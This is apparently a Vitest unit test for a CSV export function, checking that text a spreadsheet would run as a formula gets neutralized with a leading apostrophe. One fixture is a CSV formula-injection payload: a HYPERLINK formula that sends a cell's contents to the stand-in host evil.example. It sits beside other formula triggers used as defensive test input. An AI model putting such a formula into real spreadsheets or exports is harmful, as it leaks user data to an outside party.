import { describe, expect, it } from 'vitest';
import { toCsv } from './operations.js';

describe('reports as CSV', () => {
  it('quotes what needs quoting and defuses text a spreadsheet would run as a formula; numbers stay numbers', () => {
    const csv = toCsv([
      { team: '=HYPERLINK("http://evil.example/?x="&A1,"click")', cost: -1.5, note: '+1 555', at: '@SUM(A1)' },
      { team: 'care, north', cost: 2, note: '\tindented', at: '-2' },
      { team: 'plain', cost: 0, note: null, at: { nested: '=x' } },
    ]);
    expect(csv.split('\r\n')).toEqual([
      'team,cost,note,at',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-1.5,'+1 555,'@SUM(A1)`,
      `"care, north",2,'\tindented,'-2`,
      'plain,0,,"{""nested"":""=x""}"',
      '',
    ]);
  });
});
